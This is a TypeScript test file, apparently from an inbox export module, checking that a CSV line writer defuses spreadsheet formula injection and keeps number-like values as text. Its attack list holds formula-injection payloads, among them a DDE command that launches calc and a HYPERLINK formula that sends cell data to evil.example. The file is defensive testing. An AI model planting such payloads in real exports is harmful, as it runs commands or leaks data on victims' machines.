import {parse} from 'csv-parse/sync';
import fc from 'fast-check';
import {describe, expect, it} from 'vitest';
import {csvLine} from '../../../../src/endpoint/inbox/export/csv.js';

const attacks = [
  '=1+1', '+1', '-1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00A0=1+1', '"=1+1', "'\"=1+1", '＝1+1', '＋1', '－1', '＠A1', '\uFEFF=1',
  '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.example?"&A1,"Click")', 'fine;=1+1', 'fine\t=1+1', 'fine\n=1+1', 'fine\r\n=1+1', 'fine";=1+1', 'fine;"=1+1"', '",=1+1', '"\r\n"=1+1',
];

/** What any program might take for cells, whatever it was told separates them. */
function cellsOf(file: string, delimiter: string): string[] {
  if (delimiter === ',') return parse(file, {relaxColumnCount: true}).flat();
  return file.split(new RegExp(`[${delimiter}\r\n]`));
}

const wouldRun = (cell: string) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell);

describe('A line of CSV', () => {
  it.each(attacks)('lets no spreadsheet run %j', (text) => {
    const file = csvLine(['id', text, text]);
    for (const delimiter of [',', ';', '\t']) expect(cellsOf(file, delimiter).filter(wouldRun)).toEqual([]);
  });

  it('lets none run whatever people write, and is read back as many cells as it has', () => {
    const piece = fc.oneof(fc.constantFrom('=', '+', '-', '@', '＝', ';', ',', '\t', '\n', '\r', '"', "'", ' ', 'a', '1'), fc.string({unit: 'binary', maxLength: 3}));
    const cells = fc.array(fc.array(piece, {maxLength: 8}).map((pieces) => pieces.join('')), {minLength: 2, maxLength: 4});
    fc.assert(fc.property(cells, (row) => {
      const file = csvLine(['id', ...row]);
      for (const delimiter of [',', ';', '\t']) expect(cellsOf(file, delimiter).filter(wouldRun)).toEqual([]);
      const [read, ...more] = parse(file);
      expect(more).toEqual([]);
      expect(read).toHaveLength(row.length + 1);
    }), {numRuns: 3000});
  });

  it.each([
    '01632960001', '00123', '1e5', '1E23', '01632 960001', '(01632) 960001', '1-2', '1/2', '2026-11', '2026-11-22', '1.50', '10:30', '9 pm', '123456789012', '1234567890123456',
    'March 2024', '3 March 2024', 'Monday 3 March', 'DEC1', 'SEPT2', '£5.00', '5%', '1,5', ' 0123', '٠١٢٣', '1-99', '007',
  ])('gives %j to a spreadsheet as text, as it is written', (text) => {
    const [[, cell]] = parse(csvLine(['id', text])) as [[string, string]];
    expect(cell).toBe(`\t${text}`);
  });

  it.each(['1', '0', '12345', '1-1000000001', '1-1000000001; 1-1000000002', 'RXQ02', '2026-11-22T10:02:11Z', '1E23-4TRD-9X2P-H6WC', 'March', 'In May 2024 I waited', 'give-feedback', 'true', 'a1', 'E1'])('leaves %j, which a spreadsheet shows as it is, without a mark', (text) => {
    expect(parse(csvLine([text]))).toEqual([[text]]);
  });

  it('keeps other words letter for letter', () => {
    const words = ['Fine, really.', '"Quoted"', 'Two\nlines; and more', 'ਮੇਰੀ ਮਾਂ 🏥 أمي', '', 'a-b = c', 'me@example.org'];
    expect(parse(csvLine(words))).toEqual([words]);
  });
});
